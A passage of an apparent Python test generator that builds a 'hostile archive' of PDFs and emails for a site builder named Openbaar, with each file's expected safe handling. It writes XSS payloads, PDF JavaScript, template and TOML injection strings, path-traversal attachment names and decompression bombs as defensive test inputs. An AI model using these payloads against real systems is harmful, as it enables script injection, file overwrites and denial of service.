#!/usr/bin/env python3
"""Writes a hostile archive and what a correct Openbaar build must do with each file.

    python3 tests/hostile/make-hostile-archive.py OUTDIR [--quick]

creates OUTDIR/archive/ (PDFs, emails, mailboxes, text, inventory lists, odd names,
symbolic links and a named pipe, each built to break something) and OUTDIR/expected.json
(one entry per file or link, see README.md beside this script). Standard library only;
the same bytes on every run. Big inputs (a 50 MB attachment, a 5,000-message mailbox, a
100,000-row inventory, decompression bombs) are made here at run time, never stored.
`--quick` makes the big inputs small (100 messages, 1,000 rows, a 1 MB attachment) for a
fast test; the bombs stay bombs.
"""

import argparse
import base64
import csv
import datetime
import email.utils
import hashlib
import io
import json
import os
import shutil
import stat
import struct
import sys
import time
import unicodedata
import zlib

MARKER = ".openbaar-hostile-archive"
FIXED_MTIME = 1_700_000_000  # every file and link gets this modification time
CRLF = "\r\n"


# ---------------------------------------------------------------------------------------
# Deterministic bytes


def noise(label, n):
    """`n` pseudo-random bytes that depend only on `label`."""
    return hashlib.shake_256(label.encode()).digest(n)


def noise_without(label, n, forbidden=b"\r\n:"):
    """Pseudo-random bytes with none of `forbidden` (so they cannot form lines or headers)."""
    table = bytes(b for b in range(256) if b not in forbidden)
    return bytes(table[b % len(table)] for b in noise(label, n))


# ---------------------------------------------------------------------------------------
# PDF


def pdf_string(text):
    """A PDF literal string in WinAnsiEncoding, escaped."""
    raw = text.encode("cp1252", errors="replace")
    out = bytearray(b"(")
    for b in raw:
        if b in b"()\\":
            out += b"\\" + bytes([b])
        elif b < 32 or b > 126:
            out += b"\\%03o" % b
        else:
            out.append(b)
    out += b")"
    return bytes(out)


def text_ops(lines, size=11):
    ops = [b"BT /F1 %d Tf %d TL 56 780 Td" % (size, size + 3)]
    for line in lines:
        ops.append(pdf_string(line) + b" Tj T*")
    ops.append(b"ET")
    return b"\n".join(ops) + b"\n"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def stream_obj(data, extra=b""):
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf_info(info):
    items = b"".join(b"/%s %s " % (k.encode(), pdf_string(v)) for k, v in info.items())
    return b"<< " + items + b">>"


def assemble_pdf(objects, root, info=None, trailer_extra=b"", header=b"%PDF-1.4\n"):
    """Objects numbered 1..n in order, a correct xref table and trailer."""
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R" % (len(objects) + 1, root)
    if info:
        out += b" /Info %d 0 R" % info
    out += trailer_extra + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def make_pdf(pages, info=None, catalog_extra=b"", extra_objects=(), fanout=100):
    """A PDF whose pages hold the given lines of text (Helvetica, WinAnsi).

    `pages` is a list of lists of lines. Objects: 1 catalog, 2 root page tree, 3 font,
    then intermediate page-tree nodes (more than `fanout` pages), pages and contents,
    the info dictionary and `extra_objects` (bodies, referenced by nobody unless the
    caller says so in `catalog_extra`)."""
    objects = [None, None, FONT]

    def add(body):
        objects.append(body)
        return len(objects)

    page_numbers = []
    groups = [list(range(len(pages)))]
    if len(pages) > fanout:
        groups = [list(range(i, min(i + fanout, len(pages)))) for i in range(0, len(pages), fanout)]
    kids_of_root = []
    for group in groups:
        parent = 2
        if len(groups) > 1:
            objects.append(None)
            parent = len(objects)
            kids_of_root.append(parent)
        kids = []
        for i in group:
            content = add(stream_obj(text_ops(pages[i])))
            page = add(
                b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] "
                b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % (parent, content)
            )
            kids.append(page)
            page_numbers.append(page)
        if len(groups) > 1:
            objects[parent - 1] = b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>" % (
                b" ".join(b"%d 0 R" % k for k in kids),
                len(kids),
            )
        else:
            kids_of_root = kids
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % k for k in kids_of_root),
        len(pages),
    )
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>"
    info_n = add(pdf_info(info)) if info else None
    for body in extra_objects:
        add(body)
    return assemble_pdf(objects, 1, info_n)


def simple_pdf(*lines, info=None):
    return make_pdf([list(lines)], info=info)


# The standard security handler (PDF 1.4, revision 3, 128-bit RC4), by hand.

PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def rc4(key, data):
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 0xFF
        s[i], s[j] = s[j], s[i]
    out = bytearray()
    i = j = 0
    for b in data:
        i = (i + 1) & 0xFF
        j = (j + s[i]) & 0xFF
        s[i], s[j] = s[j], s[i]
        out.append(b ^ s[(s[i] + s[j]) & 0xFF])
    return bytes(out)


def security_r3(user, owner, file_id, permissions, n=16):
    """(file key, /O, /U) of algorithms 3.2-3.5 of the PDF 1.7 reference."""

    def padded(pw):
        return (pw + PAD)[:32]

    h = hashlib.md5(padded(owner)).digest()
    for _ in range(50):
        h = hashlib.md5(h[:n]).digest()
    owner_key = h[:n]
    o = rc4(owner_key, padded(user))
    for i in range(1, 20):
        o = rc4(bytes(b ^ i for b in owner_key), o)
    h = hashlib.md5(padded(user) + o + struct.pack("<i", permissions) + file_id).digest()
    for _ in range(50):
        h = hashlib.md5(h[:n]).digest()
    key = h[:n]
    u = rc4(key, hashlib.md5(PAD + file_id).digest())
    for i in range(1, 20):
        u = rc4(bytes(b ^ i for b in key), u)
    return key, o, u + bytes(16)


def encrypted_pdf(lines, user, owner, title):
    """A one-page PDF encrypted with RC4-128; readable only with `user` (or `owner`)."""
    file_id = hashlib.md5(b"openbaar-hostile" + user + owner).digest()
    permissions = -3904
    key, o, u = security_r3(user, owner, file_id, permissions)

    def obj_key(num):
        return hashlib.md5(key + num.to_bytes(3, "little") + b"\x00\x00").digest()[:16]

    content = rc4(obj_key(5), text_ops(lines))
    title_enc = rc4(obj_key(6), title.encode("latin-1"))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        FONT,
        stream_obj(content),
        b"<< /Title <" + title_enc.hex().encode() + b"> >>",
        b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P %d /O <%s> /U <%s> >>"
        % (permissions, o.hex().encode(), u.hex().encode()),
    ]
    fid = file_id.hex().encode()
    return assemble_pdf(objects, 1, 6, b" /Encrypt 7 0 R /ID [<%s> <%s>]" % (fid, fid))


def repeated_deflate(head, chunk, times, tail):
    """Raw deflate of head + chunk*times + tail without compressing it all: the chunk is
    compressed once, ending in a full flush, and its blocks are repeated."""

    def part(data, mode):
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + c.flush(mode)

    return part(head, zlib.Z_FULL_FLUSH) + part(chunk, zlib.Z_FULL_FLUSH) * times + part(
        tail, zlib.Z_FINISH
    )


def checksum_repeated(fn, head, chunk, times, tail):
    value = fn(head, 1 if fn is zlib.adler32 else 0)
    for _ in range(times):
        value = fn(chunk, value)
    return fn(tail, value)


def bomb_pdf(inflated_mib):
    """One page whose FlateDecode content stream inflates to `inflated_mib` MiB of
    spaces before one line of text."""
    head = b"BT /F1 11 Tf 56 780 Td (Bom: deze pagina is vooral witruimte) Tj ET\n"
    chunk = b" " * (1 << 20)
    tail = b"\nBT /F1 11 Tf 56 760 Td (Einde van de bom) Tj ET\n"
    raw = repeated_deflate(head, chunk, inflated_mib, tail)
    adler = checksum_repeated(zlib.adler32, head, chunk, inflated_mib, tail)
    data = b"\x78\xda" + raw + struct.pack(">I", adler)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        FONT,
        stream_obj(data, b" /Filter /FlateDecode"),
    ]
    return assemble_pdf(objects, 1)


# ---------------------------------------------------------------------------------------
# ZIP (xlsx, docx), by hand so that entries can carry precompressed or lying data


def deflate_raw(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def zip_file(entries):
    """entries: (name, data) with data bytes (deflated here), or (name, dict) with keys
    raw (already deflated), crc, size and optionally declared_size (a lie)."""
    out = bytearray()
    central = bytearray()
    dos_time, dos_date = 0, (0 << 9) | (1 << 5) | 1  # 1980-01-01 00:00
    for name, data in entries:
        if isinstance(data, dict):
            raw, crc, size = data["raw"], data["crc"], data.get("declared_size", data["size"])
        else:
            raw, crc, size = deflate_raw(data), zlib.crc32(data), len(data)
        name_b = name.encode()
        offset = len(out)
        fields = (20, 0, 8, dos_time, dos_date, crc, len(raw), size, len(name_b), 0)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + name_b + raw
        central += (
            struct.pack("<IH", 0x02014B50, 20)
            + struct.pack("<HHHHHIIIHH", *fields)
            + struct.pack("<HHHII", 0, 0, 0, 0, offset)
            + name_b
        )
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_offset, 0)
    return bytes(out)


XLSX_PARTS = [
    (
        "[Content_Types].xml",
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        b"</Types>",
    ),
    (
        "_rels/.rels",
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        b"</Relationships>",
    ),
    (
        "xl/workbook.xml",
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<sheets><sheet name="Inventaris" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
    (
        "xl/_rels/workbook.xml.rels",
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        b"</Relationships>",
    ),
]

SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def xml_escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def sheet_row(cells):
    """A row of inline-string cells; a cell given as ('f', formula, cached) is a formula."""
    out = "<row>"
    for cell in cells:
        if isinstance(cell, tuple):
            _, formula, cached = cell
            out += '<c t="str"><f>%s</f><v>%s</v></c>' % (xml_escape(formula), xml_escape(cached))
        else:
            out += '<c t="inlineStr"><is><t>%s</t></is></c>' % xml_escape(cell)
    return (out + "</row>").encode()


def xlsx(rows):
    sheet = SHEET_HEAD + b"".join(sheet_row(r) for r in rows) + SHEET_TAIL
    return zip_file(XLSX_PARTS + [("xl/worksheets/sheet1.xml", sheet)])


def xlsx_bomb(inflated_mib, lie=False):
    head = SHEET_HEAD + sheet_row(["ID", "Document", "Datum", "Beoordeling"])
    row = sheet_row(["BOM-1", "Bom", "2025-01-01", "Openbaar"])
    chunk = row * ((1 << 20) // len(row))
    times = inflated_mib * (1 << 20) // len(chunk) + 1
    raw = repeated_deflate(head, chunk, times, SHEET_TAIL)
    size = len(head) + len(chunk) * times + len(SHEET_TAIL)
    entry = {
        "raw": raw,
        "crc": checksum_repeated(zlib.crc32, head, chunk, times, SHEET_TAIL),
        "size": size,
    }
    if lie:
        entry["declared_size"] = 4096
    return zip_file(XLSX_PARTS + [("xl/worksheets/sheet1.xml", entry)]), size


def docx():
    return zip_file(
        [
            (
                "[Content_Types].xml",
                b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                b'<Default Extension="xml" ContentType="application/xml"/>'
                b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            ),
            (
                "_rels/.rels",
                b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
            ),
            (
                "word/document.xml",
                b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                b"<w:body><w:p><w:r><w:t>Brief in Word: niet gelezen door Openbaar.</w:t></w:r></w:p></w:body></w:document>",
            ),
        ]
    )


def png(width=8, height=8):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + bytes((x * 30) & 0xFF for x in range(width)) for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw, 9))
        + chunk(b"IEND", b"")
    )


def ole_msg():
    """The header of a Compound File (Outlook .msg), followed by filler sectors."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 48, 0xFFFFFFFE)
    return bytes(header) + noise("msg-body", 1536)


# ---------------------------------------------------------------------------------------
# Email


def header_lines(headers):
    out = b""
    for name, value in headers:
        if isinstance(value, str):
            value = value.encode("utf-8")
        out += name.encode() + b": " + value + b"\r\n"
    return out


CET = datetime.timezone(datetime.timedelta(hours=1))


def rfc_date(day, hour, minute, second=0):
    """An RFC 5322 date in March 2025 with the right day of the week."""
    return email.utils.format_datetime(datetime.datetime(2025, 3, day, hour, minute, second, tzinfo=CET))


def base_headers(subject, n, sender="Ambtenaar <ambtenaar@gemeente.example>", date=None):
    return [
        ("From", sender),
        ("To", "Raadsgriffie <griffie@gemeente.example>"),
        ("Subject", subject),
        ("Date", date or rfc_date(1 + n % 28, 10, n % 60)),
        ("Message-ID", "<hostile-%s@openbaar.example>" % hashlib.sha256(str(n).encode()).hexdigest()[:16]),
        ("MIME-Version", "1.0"),
    ]


def simple_email(headers, body, content_type="text/plain; charset=utf-8"):
    if isinstance(body, str):
        body = body.replace("\n", "\r\n").encode("utf-8")
    return (
        header_lines(headers)
        + b"Content-Type: " + content_type.encode() + b"\r\n"
        + b"Content-Transfer-Encoding: 8bit\r\n\r\n"
        + body
    )


def b64_lines(data):
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def attachment_part(data, disposition_params, content_type="application/pdf"):
    return (
        b"Content-Type: " + content_type.encode() + b"\r\n"
        b"Content-Disposition: attachment; " + disposition_params + b"\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + b64_lines(data)
    )


def multipart_email(headers, body, parts, boundary="grens-openbaar-7f3a"):
    b = boundary.encode()
    out = header_lines(headers) + b'Content-Type: multipart/mixed; boundary="' + b + b'"\r\n\r\n'
    out += b"Dit is een bericht in MIME-formaat.\r\n"
    out += b"--" + b + b"\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    out += body.replace("\n", "\r\n").encode() + b"\r\n"
    for part in parts:
        out += b"--" + b + b"\r\n" + part + b"\r\n"
    return out + b"--" + b + b"--\r\n"


def encoded_word(text, mode="b"):
    if mode == "b":
        return "=?utf-8?b?%s?=" % base64.b64encode(text.encode()).decode()
    q = "".join(
        c if (c.isascii() and c.isalnum()) else "=%02X" % b for c in text for b in c.encode()
    )
    return "=?utf-8?q?%s?=" % q


# ---------------------------------------------------------------------------------------
# The archive


class Archive:
    def __init__(self, root):
        self.root = root
        self.cases = []

    def _abs(self, rel):
        if isinstance(rel, bytes):
            return os.path.join(os.fsencode(self.root), rel)
        return os.path.join(self.root, rel)

    def _entry(self, rel, kind, outcome, reason, checks, extra):
        assert outcome in ("document", "documents", "failed", "skipped", "inventory"), outcome
        if outcome == "documents":
            assert "count" in extra, rel
        entry = {"path": None, "type": kind, "outcome": outcome, "reason": reason, "checks": list(checks)}
        if isinstance(rel, bytes):
            entry["path"] = rel.decode("utf-8", errors="replace")
            entry["path_hex"] = rel.hex()
        else:
            entry["path"] = rel
        entry.update(extra)
        self.cases.append(entry)
        return entry

    def file(self, rel, data, outcome, reason, checks, **extra):
        path = self._abs(rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data)
        entry = self._entry(rel, "file", outcome, reason, checks, extra)
        entry["size_bytes"] = len(data)
        entry["sha256"] = hashlib.sha256(data).hexdigest()
        return entry

    def link(self, rel, target, outcome, reason, checks, **extra):
        path = self._abs(rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        os.symlink(target, path)
        return self._entry(rel, "symlink", outcome, reason, checks, dict(extra, target=target))

    def fifo(self, rel, outcome, reason, checks, **extra):
        path = self._abs(rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        os.mkfifo(path)
        return self._entry(rel, "fifo", outcome, reason, checks, extra)


NO_SCRIPT = "no page of the site contains a <script> element, event handler or javascript: URL that came from this file"


def pdf_cases(a):
    a.file("pdf/leeg.pdf", b"", "failed", "empty", [
        "named in the failures with a reason saying the file is empty",
        "no page is made for it",
    ])

    full = make_pdf([["Afgebroken document", "Deze tekst staat in een bestand dat halverwege ophoudt."] * 20])
    # Objects are catalog, pages, font, content, page: cut inside the content stream, so the
    # page object and the xref are gone.
    cut = full.index(b"stream\n") + 200
    a.file("pdf/afgebroken.pdf", full[:cut], "failed", "corrupt", [
        "named in the failures as damaged (truncated)",
        "not published as an empty document (a repairing reader may invent an empty page)",
    ])

    good = simple_pdf("Kapotte xref", "Deze PDF heeft een verminkte kruisverwijzingstabel maar hele objecten.")
    xref_at = good.index(b"xref\n")
    broken = bytearray(good[:xref_at])
    broken += b"xref\n0 9\n" + b"".join(b"%010d 00000 n \n" % (987654321 * (i + 1) % 10**10) for i in range(9))
    broken += b"trailer\n<< /Size 9 /Root 1 0 R >>\nstartxref\n424242\n%%EOF\n"
    a.file("pdf/kapotte-xref.pdf", bytes(broken), "document", "repaired", [
        "the text 'verminkte kruisverwijzingstabel' is read (the objects are found again)",
    ], accept=["failed"], kind="pdf")

    a.file("pdf/willekeurig.pdf", noise("random-pdf", 65536), "failed", "corrupt", [
        "named in the failures: named .pdf but not a PDF",
    ])

    a.file("pdf/html-als-pdf.pdf",
           b"<!DOCTYPE html><html><head><title>404 Not Found</title></head>"
           b"<body><script>alert(1)</script><h1>Not Found</h1></body></html>\n",
           "failed", "corrupt", [
               "named in the failures: named .pdf but a web page (a failed download)",
               NO_SCRIPT,
           ])

    a.file("pdf/versleuteld-wachtwoord.pdf",
           encrypted_pdf(["Geheim: alleen met wachtwoord te lezen."], b"geheim", b"eigenaar", "Versleuteld"),
           "failed", "encrypted", [
               "named in the failures with a reason saying it needs a password",
               "the text 'alleen met wachtwoord' appears nowhere in the output",
           ])

    a.file("pdf/versleuteld-leeg-wachtwoord.pdf",
           encrypted_pdf(["Beveiligd met alleen een eigenaarswachtwoord: gewoon leesbaar."], b"", b"eigenaar",
                         "Alleen eigenaarswachtwoord"),
           "document", "encrypted_readable", [
               "read with the empty user password: text 'eigenaarswachtwoord' is published",
               "not named in the failures",
           ], kind="pdf")

    # A page tree claiming a million pages with one real page.
    liar = simple_pdf("Een pagina", "De paginaboom beweert dat er een miljoen pagina's zijn.")
    liar = liar.replace(b"/Count 1 >>", b"/Count 1000000 >>", 1)
    a.file("pdf/miljoen-paginas.pdf", liar, "document", "page_count_lie", [
        "finishes within seconds: no loop over, or allocation for, 1,000,000 pages",
        "if published, page_count is 1 and the text 'miljoen' is read",
    ], accept=["failed"], kind="pdf")

    a.file("pdf/3000-paginas.pdf",
           make_pdf([["Pagina %d van 3000" % (i + 1)] for i in range(3000)]),
           "document", "many_pages", [
               "page_count is 3000",
               "the text of page 3000 ('Pagina 3000 van 3000') is published",
               "the removal of page numbers does not leave the document empty or fail it",
           ], kind="pdf")

    a.file("pdf/bom.pdf", bomb_pdf(1024), "failed", "bomb", [
        "the content stream inflates to 1 GiB from about 1 MB: the build's peak memory stays under 1 GiB",
        "named in the failures with a reason saying it inflates beyond the limit",
        "if read after all, its text is the two short lines and the whitespace is not published",
    ], accept=["document"])

    hostile_lines = [
        "Sjablonen en script in een PDF",
        "{{ x }}",
        "{% raw %}",
        "{% endraw %}",
        "<script>alert(1)</script>",
        "+++",
        'title = "overschreven"',
        "+++",
        "{{ youtube(id=\"x\") }}",
        "]]> <!-- --> &amp; &lt;b&gt;",
    ]
    a.file("pdf/sjablonen-en-script.pdf", simple_pdf(*hostile_lines), "document", "hostile_text", [
        "the page shows '{{ x }}', '{% raw %}' and '<script>alert(1)</script>' literally, as text",
        "the '+++' lines do not end the front matter: the title is not 'overschreven'",
        "the shortcode text is shown, no video is embedded",
        NO_SCRIPT,
    ], kind="pdf")

    a.file("pdf/metadata-script.pdf",
           simple_pdf("Gewone tekst, vijandige metadata.", info={
               "Title": "</title><script>alert(1)</script>{{ x }}",
               "Author": "<img src=x onerror=alert(1)>",
               "Subject": "+++\ntitle = \"x\"\n+++",
               "CreationDate": "D:99999999999999",
           }),
           "document", "hostile_metadata", [
               "if the metadata title is used, it is shown escaped as text",
               "the impossible CreationDate is not used as the date",
               NO_SCRIPT,
           ], kind="pdf")

    a.file("pdf/javascript-openaction.pdf",
           make_pdf([["PDF met JavaScript bij openen."]],
                    catalog_extra=b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
           "document", "active_content", [
               "the text is published",
               "the original is offered as a download; the site never embeds or runs its JavaScript",
           ], kind="pdf")

    cycle = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
    ]
    a.file("pdf/paginaboom-lus.pdf", assemble_pdf(cycle, 1), "failed", "corrupt", [
        "the page tree refers back to itself: no endless loop or stack overflow",
        "named in the failures (no pages)",
    ])

    a.file("pdf/pdf-als-eml.eml", simple_pdf("Een echte PDF met de naam .eml."),
           "document", "content_over_name", ["read as a PDF (kind pdf), by its content"], kind="pdf")

    a.file("pdf/eml-als-pdf.pdf",
           simple_email(base_headers("Een e-mail met de naam .pdf", 1), "Dit is een e-mail, opgeslagen als .pdf.\n"),
           "document", "content_over_name", [
               "read as an email (kind email) with subject 'Een e-mail met de naam .pdf'",
           ], kind="email")

    a.file("pdf/HOOFDLETTERS.PDF", simple_pdf("Extensie in hoofdletters."), "document", "valid",
           ["read as a PDF"], kind="pdf")

    # Junk that starts like an email header, then the PDF (its xref offsets now all off).
    junk = b"X-Scanner-Header: rommel voor de kop\n" + b"." * 400 + b"\n"
    a.file("pdf/kop-na-rommel.pdf", junk + simple_pdf("De kop %PDF staat niet aan het begin."),
           "document", "offset_header", [
               "read as a PDF (not an email) although %%PDF- starts after %d bytes of junk" % len(junk),
           ], kind="pdf")


def attachment_pdf(label):
    return simple_pdf("Bijlage: %s" % label, "Inhoud die alleen in deze bijlage staat (%s)." % label)


def email_cases(a, big_attachment_mb):
    n = iter(range(100, 1000))

    a.file("email/script-onderwerp.eml",
           simple_email(base_headers("<script>alert(1)</script> {{ x }} {% raw %}", next(n)), "Tekst.\n"),
           "document", "hostile_header", [
               "the title shows '<script>alert(1)</script> {{ x }} {% raw %}' as text",
               NO_SCRIPT,
           ], kind="email")

    hdr = base_headers("Afzender met script", next(n),
                       sender='"<script>alert(1)</script>" <aanval@voorbeeld.example>')
    hdr[1] = ("To", '"<img src=x onerror=alert(1)>" <a@voorbeeld.example>, "{{ x }}" <b@voorbeeld.example>')
    hdr.insert(2, ("Cc", '"</td></tr></table><svg onload=alert(1)>" <c@voorbeeld.example>'))
    a.file("email/script-afzender.eml", simple_email(hdr, "Tekst.\n"), "document", "hostile_header", [
        "the sender is shown as '<script>alert(1)</script> <aanval@voorbeeld.example>' in text",
        "recipient names with tags and '{{ x }}' are shown literally",
        "person pages (/persoon/…) made from these names have safe slugs and escaped titles",
        NO_SCRIPT,
    ], kind="email")

    hdr = base_headers(encoded_word("<script>alert(1)</script>") + " " + encoded_word("<b>vet</b>", "q"), next(n),
                       sender='%s <ew@voorbeeld.example>' % encoded_word("<script>alert(2)</script>"))
    a.file("email/encoded-word-script.eml", simple_email(hdr, "Tekst.\n"), "document", "hostile_header", [
        "the subject is decoded from RFC 2047 to '<script>alert(1)</script><b>vet</b>' (the space between encoded words goes) and shown as text",
        "the decoded sender name '<script>alert(2)</script>' is shown as text",
        NO_SCRIPT,
    ], kind="email")

    hdr = base_headers(encoded_word('Gewoon onderwerp\n+++\ntitle = "overschreven"\ndraft = true\n+++'), next(n))
    a.file("email/onderwerp-toml-injectie.eml", simple_email(hdr, "Tekst.\n"), "document", "hostile_header", [
        "the decoded subject with newlines and '+++' stays inside its TOML string",
        "the page is published (not a draft) and its title is not 'overschreven'",
    ], kind="email")

    hdr = base_headers("Afzender als pad", next(n), sender='"../../../../etc/passwd" <pad@voorbeeld.example>')
    hdr[1] = ("To", '"..\\\\..\\\\windows" <w@voorbeeld.example>, "." <p@voorbeeld.example>, "%2e%2e%2f" <q@voorbeeld.example>')
    a.file("email/persoon-pad.eml", simple_email(hdr, "Tekst.\n"), "document", "hostile_header", [
        "person and organisation pages made from these names stay inside the output folder",
        "no person page is written outside /persoon/ and none overwrites another page",
    ], kind="email")

    names = [
        ("bijlage-pad-omhoog.eml", b'filename="../../x.pdf"', "../../x.pdf"),
        ("bijlage-absoluut-pad.eml", b'filename="/etc/passwd"', "/etc/passwd"),
        ("bijlage-con.eml", b'filename="CON"', "CON"),
        ("bijlage-nieuwe-regel.eml", b"filename*=utf-8''a%0Ab.pdf", "a\nb.pdf"),
        ("bijlage-nieuwe-regel-2047.eml", b'filename="' + encoded_word("c\r\nd.pdf").encode() + b'"', "c\r\nd.pdf"),
        ("bijlage-300-tekens.eml", b'filename="' + b"b" * 296 + b'.pdf"', "b" * 296 + ".pdf"),
        ("bijlage-rfc2231-pad.eml", b"filename*=utf-8''..%2F..%2F..%2Fy.pdf", "../../../y.pdf"),
        ("bijlage-backslash.eml", b'filename="..\\\\..\\\\windows\\\\z.pdf"', "..\\..\\windows\\z.pdf"),
        ("bijlage-nul-teken.eml", b"filename*=utf-8''n%00ul.pdf", "n\x00ul.pdf"),
        ("bijlage-lege-naam.eml", b'filename=""', ""),
    ]
    for file_name, params, decoded in names:
        label = "bijlage van " + file_name
        mail = multipart_email(base_headers("Bijlage met vijandige naam (%s)" % file_name, next(n)),
                               "Zie de bijlage.\n", [attachment_part(attachment_pdf(label), params)])
        a.file("email/" + file_name, mail, "documents", "hostile_attachment_name", [
            "the attachment %r is published as a document linked to the email" % decoded,
            "attachment %r is written inside the output only: no file is created or overwritten outside it" % decoded,
            "the download name of the attachment has no path separators, control characters or reserved device names and fits in 255 bytes",
        ], count=2, kind="email", attachments=[{"name": decoded, "outcome": "document"}])

    # 1,000 nested multiparts.
    depth = 1000
    mail = header_lines(base_headers("Duizend lagen multipart", next(n)))
    for level in range(depth):
        mail += b'Content-Type: multipart/mixed; boundary="laag%d"\r\n\r\n--laag%d\r\n' % (level, level)
    mail += b"Content-Type: text/plain; charset=utf-8\r\n\r\nDiepste tekst van duizend lagen.\r\n"
    for level in reversed(range(depth)):
        mail += b"--laag%d--\r\n" % level
    a.file("email/geneste-multipart-1000.eml", mail, "document", "deep_nesting", [
        "no stack overflow or crash; the email is published with its subject",
        "the body is the innermost text, or the nesting limit is reported for it",
    ], kind="email")

    # 200 messages each attached to the next.
    inner = simple_email(base_headers("Laag 0", 0), "Binnenste bericht.\n")
    for level in range(1, 200):
        boundary = b"rfc822-%d" % level
        inner = (
            header_lines(base_headers("Laag %d" % level, level))
            + b'Content-Type: multipart/mixed; boundary="' + boundary + b'"\r\n\r\n'
